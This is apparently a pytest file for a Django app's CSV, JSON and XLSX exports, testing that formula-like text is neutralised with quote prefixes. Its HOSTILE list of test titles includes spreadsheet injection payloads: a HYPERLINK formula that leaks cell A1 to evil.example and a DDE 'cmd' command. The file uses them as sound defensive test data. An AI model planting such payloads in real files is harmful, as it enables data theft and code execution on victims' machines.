"""Every export file is what the cell-by-cell writers wrote.

The oracle is those writers as they were (kept below, as they stood but for their names),
fed by the tables' own export methods (exports.table_rows, cell by cell). The files under
test come from writers.response, through the fast path (fastrows) where it applies, with
chunks and streamed pieces small enough that the data crosses many of their boundaries.

CSV and JSON: the same bytes. XLSX, read back with openpyxl: the same cells (value, type,
number format, quote prefix, bold, size) where there is a value, the same column widths,
frozen panes and sheet name; but for three mends, checked apart: a carriage return stays
one (the old file's raw one was read back as a line feed), a text that spells an Excel error
("#N/A") stays a text (the old file made it an error value), and a text that is a formula
once its control characters are dropped ("\x02=…") stays a text with a quote prefix (the
old file wrote a formula: the injection the quote prefix is there to stop).
"""

import csv
import io
import itertools
import json
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from xml.etree import ElementTree

import openpyxl
import pytest
from django.contrib.auth.models import AnonymousUser
from django.http import FileResponse, StreamingHttpResponse
from django.test import RequestFactory
from django.utils import timezone, translation
from django_tables2 import RequestConfig
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from workplans.models import Country, PriorityArea, Project, StatusReport, WorkPlan
from workplans.progress_rows import progress_rows
from workplans.selectors import listed_projects, projects_led_by
from workplans.services import project_set_status
from workplans.tables import byplan, exports, fastrows, writers
from workplans.tables.exports import (
    CONTENT_TYPES,
    FORMULA_STARTS,
    Export,
    columns,
    neutralise,
    primed,
    table_rows,
)
from workplans.tables.projects import (
    CountryProjectTable,
    ProgressTable,
    ProjectListTable,
    ProjectTable,
)
from workplans.tables.writers import XLSX_MAX_WIDTH, XLSX_MIN_WIDTH, XLSX_SAMPLE_ROWS
from workplans.views.listing import stable

from .conftest import make_body, make_meeting, make_plan, make_project

S = Project.Status
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XML = "http://www.w3.org/XML/1998/namespace"

# Titles that test each writer's every way: unicode, markup, formulas, quoting, line breaks,
# characters XML cannot hold, spaces at the edges, Excel's error texts, the longest title.
HOSTILE = [
    "Đào tạo công chức",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rReturned",
    "R&D <b>bold</b> > less",
    "Research & development",
    'Comma, and "quotes"',
    "Line\nbreak",
    "Carriage\r\nreturn",
    "#N/A",
    "#DIV/0!",
    "  spaced  ",
    " ",
    "",
    "100% done \\ back\\slash",
    "\x01control\x1fcharacters",
    "\x02=formula after a control character",
    "no-break\u00a0space and zero\u200bwidth",
    "emoji 🎉 and 日本語",
    "'already quoted",
    "x" * 400,
]


@pytest.fixture
def hostile(db, plus_three, viet_nam, japan, secretariat):
    """Two bodies, four plans (one titled in Vietnamese, one like a formula), ~70 projects
    with every hostile title, 0 to 3 lead countries, empty years and areas, some updated."""
    thailand = Country.objects.create(code="TH", name="Thailand", group="asean")
    brunei = Country.objects.create(code="BN", name="Brunei Darussalam", group="asean")
    other = make_body("other", short_name="@Other, body")
    plans = [
        make_plan(plus_three, "w-a"),
        make_plan(plus_three, "w-b", start_year=2016),
        make_plan(other, "w-c"),
        make_plan(other, "w-d", start_year=2018),
    ]
    plans[0].title_vi = "Kế hoạch công tác"
    plans[0].save()
    plans[2].title = "=Plan, titled like a formula"
    plans[2].save()
    areas = [
        PriorityArea.objects.create(plan=plan, number=n, title="A")
        for plan in plans[:2]
        for n in (1, 12)
    ]
    leads = [[viet_nam], [japan, thailand, viet_nam], [], [thailand], [brunei, japan], [brunei]]
    statuses = list(S)
    for i in range(70):
        project = make_project(
            plans[i % 4],
            f"H-{i:03}" if i % 9 else f"-{i}",
            leads=leads[i % len(leads)],
            title=HOSTILE[i % len(HOSTILE)],
            status=statuses[i % len(statuses)],
            year=None if i % 5 == 0 else 2019 + i % 7,
            priority_area=areas[i % 4] if i % 4 < 2 and i % 3 else None,
        )
        if i % 4 == 0 and project.status in (S.PLANNED, S.ONGOING):
            project_set_status(
                project=project, status=S.POSTPONED, by=secretariat, expected_version=1, note="x"
            )
        elif i % 6 == 1 and project.status in (S.PLANNED, S.ONGOING):
            project_set_status(
                project=project, status=S.COMPLETED, by=secretariat, expected_version=1, note="y"
            )
    # Figures for the progress table (percentages, sources, dates as text).
    meeting = make_meeting(plus_three)
    StatusReport.objects.create(
        plan=plans[0],
        meeting=meeting,
        reported_on=meeting.start_date,
        completed=7,
        ongoing=5,
        planned=19,
    )
    return plans


EXPORT = Export(
    title="Projects — R&D, =hostile",
    filename_stem="accsm-test",
    sheet_name="Projects: [test]",
    filters=[("Status", "Planned, Completed")],
    exported_at=timezone.make_aware(datetime(2024, 3, 5, 10, 30)),
)


def project_tables(viet_nam, as_of, sort):
    """The three project tables as their views build them, sorted by `sort`."""
    request = RequestFactory().get("/", {"sort": sort} if sort else {})
    made = [
        ProjectListTable(listed_projects(as_of)),
        ProjectTable(listed_projects(as_of)),
        CountryProjectTable(projects_led_by(viet_nam, as_of), user=AnonymousUser()),
    ]
    for table in made:
        RequestConfig(request, paginate=False).configure(table)
        table.data.data = stable(table.data.data)
    return made


def progress_table():
    table = ProgressTable(progress_rows(WorkPlan.objects.all()))
    RequestConfig(RequestFactory().get("/"), paginate=False).configure(table)
    return table


def content(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse | FileResponse)
    return b"".join(response.streaming_content)  # type: ignore[arg-type]  # not async


# The writers as they were: the oracle. -----------------------------------------------


class _Echo:
    def write(self, value: str) -> str:
        return value


def old_csv(table, export: Export) -> bytes:
    cols = columns(table)
    rows = primed(table_rows(table, cols))

    def cell(value):
        if value is None:
            return ""
        if isinstance(value, date):
            return value.isoformat()
        return neutralise(value)

    def lines() -> Iterator[str]:
        writer = csv.writer(_Echo())
        yield "\ufeff" + writer.writerow([neutralise(c.header) for c in cols])
        for values in rows:
            yield writer.writerow([cell(v) for v in values])

    return "".join(lines()).encode()


def old_json(table, export: Export) -> bytes:
    cols = columns(table)
    headers = [c.header for c in cols]

    def cell(value):
        if isinstance(value, date):
            return value.isoformat()
        if isinstance(value, Decimal):
            return float(value)
        return value

    def lines() -> Iterator[str]:
        yield "["
        separator = "\n"
        for values in table_rows(table, cols):
            item = dict(zip(headers, map(cell, values), strict=True))
            yield separator + json.dumps(item, ensure_ascii=False)
            separator = ",\n"
        yield "\n]\n"

    return "".join(lines()).encode()


def old_xlsx(table, export: Export) -> bytes:
    cols = columns(table)
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=writers._sheet_title(export.sheet_name))
    sheet.freeze_panes = "A3"
    bold = Font(bold=True)

    def styled(value, font=None, number_format=None):
        cell = WriteOnlyCell(sheet, value=value)
        if font:
            cell.font = font
        if number_format:
            cell.number_format = number_format
        return cell

    def text(value: str, font=None):
        cell = styled(ILLEGAL_CHARACTERS_RE.sub("", value), font)
        if value.startswith(FORMULA_STARTS):
            cell.data_type = "s"
            cell.quotePrefix = True
        return cell

    values_iter = table_rows(table, cols)
    sample = list(itertools.islice(values_iter, XLSX_SAMPLE_ROWS))
    for index, col in enumerate(cols, start=1):
        longest = max(
            [len(col.header), *(len(writers._width_text(row[index - 1])) for row in sample)]
        )
        width = min(max(longest + 2, XLSX_MIN_WIDTH), XLSX_MAX_WIDTH)
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.append([text(export.heading, Font(bold=True, size=12))])
    sheet.append([text(c.header, bold) for c in cols])
    percent = [c.kind == "percent" for c in cols]
    for values in itertools.chain(sample, values_iter):
        cells: list = []
        for value, is_percent in zip(values, percent, strict=True):
            if value is None:
                cells.append(None)
            elif is_percent:
                cells.append(styled(Decimal(value) / 100, number_format="0.0%"))
            elif isinstance(value, str):
                cells.append(text(value))
            else:
                cells.append(value)
        sheet.append(cells)
    with tempfile.TemporaryFile() as spool:
        workbook.save(spool)
        spool.seek(0)
        return spool.read()


# Reading an XLSX back. ----------------------------------------------------------------


def xlsx_read(data: bytes) -> dict:
    """What a reader sees in the file: every cell holding a value, with its type, number
    format, quote prefix, bold and size; the column widths, panes and sheets."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    cells = {
        cell.coordinate: (
            cell.value,
            cell.data_type,
            cell.number_format,
            bool(cell.quotePrefix),
            bool(cell.font.b),
            cell.font.sz,
        )
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }
    return {
        "sheets": book.sheetnames,
        "freeze": sheet.freeze_panes,
        "widths": {
            letter: dimension.width for letter, dimension in sheet.column_dimensions.items()
        },
        "cells": cells,
    }


def mended(old: tuple, new: tuple, expected) -> bool:
    """A cell the new writer mends: the exact text, as a text, where the old file changed it."""
    if not isinstance(expected, str) or new[:2] != (ILLEGAL_CHARACTERS_RE.sub("", expected), "s"):
        return False
    if "\r" in expected:  # the old file's raw \r was read back as \n
        return old[0] == new[0].replace("\r\n", "\n").replace("\r", "\n") and old[1:] == new[1:]
    if new[0].startswith("=") and not expected.startswith("="):  # "\x02=…": the old file ran it
        return old[:2] == (new[0], "f") and new[3]
    return expected in ERROR_CODES and old[:2] == (expected, "e")


def assert_same_xlsx(old_data: bytes, new_data: bytes, table) -> None:
    old, new = xlsx_read(old_data), xlsx_read(new_data)
    assert new["sheets"] == old["sheets"]
    assert new["freeze"] == old["freeze"] == "A3"
    assert new["widths"] == old["widths"]
    assert new["cells"].keys() == old["cells"].keys()
    expected = list(table_rows(table, columns(table)))
    differ = [key for key in new["cells"] if new["cells"][key] != old["cells"][key]]
    for key in differ:
        cell = openpyxl.utils.cell.coordinate_to_tuple(key)
        value = expected[cell[0] - 3][cell[1] - 1] if cell[0] >= 3 else None
        assert mended(old["cells"][key], new["cells"][key], value), (
            key,
            old["cells"][key],
            new["cells"][key],
        )
    package = zipfile.ZipFile(io.BytesIO(new_data))
    parts = {part: ElementTree.fromstring(package.read(part)) for part in package.namelist()}
    # Excel keeps the spaces a text begins or ends with only where the XML says so.
    for text in parts["xl/worksheets/sheet1.xml"].iter(f"{{{MAIN}}}t"):
        if text.text and (text.text[0].isspace() or text.text[-1].isspace()):
            assert text.get(f"{{{XML}}}space") == "preserve", text.text


# The comparisons. -----------------------------------------------------------------------


@pytest.fixture(params=["default", "small"])
def chunking(request, monkeypatch):
    """The default sizes, and sizes small enough that chunks, pieces and groups of plans
    (byplan) end mid-data."""
    if request.param == "small":
        monkeypatch.setattr(byplan, "GROUP_ROWS", 5)
        monkeypatch.setattr(exports, "CHUNK_SIZE", 7)
        monkeypatch.setattr(writers, "LINES_PER_CHUNK", 3)
    return request.param


@pytest.mark.parametrize("language", ["en", "vi"])
@pytest.mark.parametrize("as_of", [None, date(2024, 1, 1)])
@pytest.mark.parametrize("sort", [None, "-lead_countries", "title"])
def test_csv_and_json_are_the_bytes_the_old_writers_wrote(
    hostile, viet_nam, chunking, language, as_of, sort
):
    with translation.override(language):
        for table in project_tables(viet_nam, as_of, sort):
            assert fastrows.fast_chunks(table, columns(table)) is not None
            name = type(table).__name__
            assert content(writers.response(table, "csv", EXPORT)) == old_csv(table, EXPORT), name
            assert content(writers.response(table, "json", EXPORT)) == old_json(table, EXPORT), name


@pytest.mark.parametrize("language", ["en", "vi"])
@pytest.mark.parametrize("as_of", [None, date(2024, 1, 1)])
def test_xlsx_holds_the_cells_the_old_writer_wrote(hostile, viet_nam, chunking, language, as_of):
    with translation.override(language):
        for table in project_tables(viet_nam, as_of, "-lead_countries"):
            assert_same_xlsx(
                old_xlsx(table, EXPORT), content(writers.response(table, "xlsx", EXPORT)), table
            )


def test_the_mends_are_there_and_only_for_those_cells(hostile, viet_nam):
    (table, *_) = project_tables(viet_nam, None, "title")
    new = xlsx_read(content(writers.response(table, "xlsx", EXPORT)))["cells"]
    titles = {v[0]: v for k, v in new.items() if k.startswith("D") and k != "D2"}
    assert titles["\rReturned"][:2] == ("\rReturned", "s")
    assert titles["Carriage\r\nreturn"][:2] == ("Carriage\r\nreturn", "s")
    assert titles["#N/A"][:2] == ("#N/A", "s")
    assert titles['=HYPERLINK("http://evil.example/?"&A1,"Click")'][1:4] == ("s", "General", True)
    assert titles["=formula after a control character"][1:4] == ("s", "General", True)
    assert titles["  spaced  "][0] == "  spaced  "
    assert titles["R&D <b>bold</b> > less"][:4] == ("R&D <b>bold</b> > less", "s", "General", False)


def test_progress_exports_go_the_general_way_and_are_the_same(hostile, chunking):
    table = progress_table()
    assert fastrows.fast_chunks(table, columns(table)) is None
    assert content(writers.response(table, "csv", EXPORT)) == old_csv(table, EXPORT)
    assert content(writers.response(table, "json", EXPORT)) == old_json(table, EXPORT)
    assert_same_xlsx(
        old_xlsx(table, EXPORT), content(writers.response(table, "xlsx", EXPORT)), table
    )
    cells = xlsx_read(content(writers.response(table, "xlsx", EXPORT)))["cells"]
    percents = [v for v in cells.values() if v[2] == "0.0%"]
    assert percents and all(isinstance(v[0], int | float) and v[1] == "n" for v in percents)


def test_xlsx_headings_widths_dates_and_panes(hostile, viet_nam):
    (table, *_) = project_tables(viet_nam, None, None)
    data = content(writers.response(table, "xlsx", EXPORT))
    read = xlsx_read(data)
    assert read["sheets"] == ["Projects   test "]  # Excel's forbidden characters replaced
    heading = read["cells"]["A1"]
    assert heading == (EXPORT.heading, "s", "General", False, True, 12)
    assert all(
        v[4] and v[5] is None for k, v in read["cells"].items() if k[1:] == "2" and len(k) == 2
    )
    dates = [v for v in read["cells"].values() if v[1] == "d"]
    assert dates and all(v[2] == "yyyy-mm-dd" and v[0].time() == datetime.min.time() for v in dates)
    widths = read["widths"]
    assert widths and all(XLSX_MIN_WIDTH <= w <= XLSX_MAX_WIDTH for w in widths.values())
    assert widths["D"] == XLSX_MAX_WIDTH  # the 400-character title
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert "[Content_Types].xml" in names and "xl/worksheets/sheet1.xml" in names
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_the_xlsx_comparison_sees_a_changed_cell(hostile, viet_nam):
    """The comparison is not blind: one cell changed in the file makes it fail."""
    (table, *_) = project_tables(viet_nam, None, None)
    data = content(writers.response(table, "xlsx", EXPORT))
    book = openpyxl.load_workbook(io.BytesIO(data))
    book.worksheets[0]["C5"].value = book.worksheets[0]["C5"].value + " "
    changed = io.BytesIO()
    book.save(changed)
    with pytest.raises(AssertionError):
        assert_same_xlsx(old_xlsx(table, EXPORT), changed.getvalue(), table)


def test_formula_starts_are_single_characters():
    assert all(
        len(start) == 1 for start in FORMULA_STARTS
    )  # as exports.any_formula_like reads them


@pytest.mark.parametrize("ranges", [0, 1, 32])
def test_lead_countries_by_list_or_by_ranges_of_ids(hostile, viet_nam, monkeypatch, ranges):
    """A chunk's lead countries are read by ranges of ids, or by their list where the ids
    are scattered (here forced): the same cells either way."""
    monkeypatch.setattr(fastrows, "MAX_RANGES", ranges)
    monkeypatch.setattr(exports, "CHUNK_SIZE", 9)
    for table in project_tables(viet_nam, None, "title"):
        cols = columns(table)
        assert list(fastrows.fast_rows(table, cols)) == list(table_rows(table, cols))


def test_a_country_added_during_an_export_is_read(hostile, viet_nam, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 10)
    (table, *_) = project_tables(viet_nam, None, None)
    cols = columns(table)
    later = [row[2] for row in table_rows(table, cols)][10:]  # codes after the first chunk
    rows = fastrows.fast_rows(table, cols)
    first = [next(rows) for _ in range(10)]
    late = Country.objects.create(code="LA", name="Lao PDR", group="asean")
    for project in Project.objects.filter(code__in=later[::2]):
        project.lead_countries.add(late)
    assert first + list(rows) == list(table_rows(table, cols))
    assert any("LA" in row[4] for row in first + list(fastrows.fast_rows(table, cols)))


def test_csv_quotes_what_needs_it_line_by_line(hostile, viet_nam):
    (table, *_) = project_tables(viet_nam, None, None)
    read = list(
        csv.reader(
            io.StringIO(
                content(writers.response(table, "csv", EXPORT)).decode("utf-8-sig"), newline=""
            )
        )
    )
    titles = {row[3] for row in read[1:]}
    assert 'Comma, and "quotes"' in titles and "Line\nbreak" in titles and "'\rReturned" in titles
    assert all(len(row) == len(read[0]) for row in read)


def test_an_export_reads_one_more_query_per_chunk_and_no_more(
    hostile, viet_nam, monkeypatch, django_assert_max_num_queries
):
    """The rows stream in one query; each chunk adds one for its lead countries."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries(size: int) -> tuple[int, int]:
        monkeypatch.setattr(exports, "CHUNK_SIZE", size)
        (table, *_) = project_tables(viet_nam, None, None)
        with CaptureQueriesContext(connection) as captured:
            content(writers.response(table, "csv", EXPORT))
        return len(captured), -(-table.data.data.count() // size)

    (few, chunks_few), (many, chunks_many) = queries(35), queries(5)
    assert chunks_many > chunks_few
    assert many - few == chunks_many - chunks_few


def test_content_types_are_unchanged():
    assert CONTENT_TYPES["xlsx"].endswith("spreadsheetml.sheet")


# Each column-at-a-time conversion against its cell-by-cell twin. ------------------------

VALUES = [
    *HOSTILE,
    "Research & development",
    "plain",
    "plain too",
    None,
    0,
    7,
    -3,
    2024,
    10**17,
    True,
    False,
    1.5,
    float("nan"),
    Decimal("22.60"),
    date(2024, 3, 5),
    date(1900, 2, 1),
    datetime(2024, 1, 1, 10, 30),
]


def columns_of(values: list) -> Iterator[list]:
    """Each value alone, beside plain text, beside its own kind, and all of them at once."""
    yield values
    for value in values:
        yield [value]
        yield [value, "plain"]
        yield ["plain", value, None]
        yield [value, value]
        yield [None, value, None]
        yield [value, 1] if not isinstance(value, str) else [value, "plain too"]


def test_csv_columns_are_the_cells_csv_writer_wrote():
    writer = csv.writer(_Echo())
    for column in columns_of(VALUES):
        assert list(writers._csv_column(column)) == [writers._csv_cell(v) for v in column]
        chunk = exports.Chunk(len(column), [column, list(reversed(column))])
        expected = "".join(
            writer.writerow([writers._csv_cell(a), writers._csv_cell(b)])
            for a, b in zip(column, reversed(column), strict=True)
        )
        assert writers._csv_lines(chunk, writer) == expected, column
    one = exports.Chunk(3, [["", None, "x"]])  # one column: an empty field is written ""
    assert writers._csv_lines(one, writer) == '""\r\n""\r\nx\r\n'


def test_json_columns_are_the_values_json_dumps_wrote():
    keys = ['"A"', '"B %%"']
    for column in columns_of([v for v in VALUES if not isinstance(v, datetime)]):
        chunk = exports.Chunk(len(column), [column, list(reversed(column))])
        expected = [
            json.dumps(
                {"A": writers._json_cell(a), "B %": writers._json_cell(b)}, ensure_ascii=False
            )
            for a, b in zip(column, reversed(column), strict=True)
        ]
        assert list(writers._json_items(chunk, keys)) == expected, column


def test_xlsx_columns_are_the_cells_written_one_by_one():
    from workplans.tables import xlsx

    serials = xlsx._Serials()
    for column in columns_of(VALUES):
        rows = range(3, 3 + len(column))
        expected = [
            xlsx._cell(f"D{r}", v, False, serials) for r, v in zip(rows, column, strict=True)
        ]
        assert list(xlsx._column_cells(column, "D", rows, False, serials)) == expected, column
